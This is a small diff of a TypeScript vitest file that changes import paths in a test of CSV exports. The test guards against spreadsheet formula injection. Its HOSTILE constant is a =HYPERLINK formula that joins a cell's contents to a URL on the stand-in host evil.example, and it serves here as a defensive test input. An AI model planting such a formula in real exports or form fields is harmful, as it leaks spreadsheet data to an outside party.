@@ -2,9 +2,9 @@ import { readdirSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import Papa from 'papaparse';
 import { afterAll, beforeAll, expect, it } from 'vitest';
-import { contract } from '../../bff/src/core/contract';
-import { openTestBank, type SignedIn, type TestBank } from '../support/test-bank';
-import { until } from '../support/until';
+import { contract } from './contract';
+import { openTestBank, type SignedIn, type TestBank } from '../../../tests/support/test-bank';
+import { until } from '../../../tests/support/until';
 
 /** No text that a stranger wrote is computed by the spreadsheet that an export is opened with. */
 const HOSTILE = '=HYPERLINK("http://evil.example/?"&A2,"ver nota")\n.';
